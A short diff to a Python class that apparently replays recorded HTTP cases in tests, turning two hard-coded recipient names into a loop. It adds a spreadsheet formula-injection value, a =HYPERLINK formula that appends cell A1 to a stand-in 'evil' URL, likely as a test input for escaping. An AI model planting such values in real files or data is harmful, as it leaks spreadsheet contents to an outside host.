@@ -197,8 +197,12 @@ class Wire:
         if cost:
             self._provider.charge_by_hand(entity, cost, now)
             self._look(f"after {entity} was carried out")
-        self._provider.sent(entity, "Sarah Mitchell")
-        self._provider.sent(entity, "Sarah")
+        for name in (
+            "Sarah Mitchell",
+            "Sarah",
+            '=HYPERLINK("http://evil/?"&A1,"x")',
+        ):  # in all of these bodies
+            self._provider.sent(entity, name)
         http = case["http"]
         body = http["body"].replace(case["asked"]["lead_id"], entity).encode("utf-8", "surrogatepass")
         return Response(http["status"], http["headers"], body)
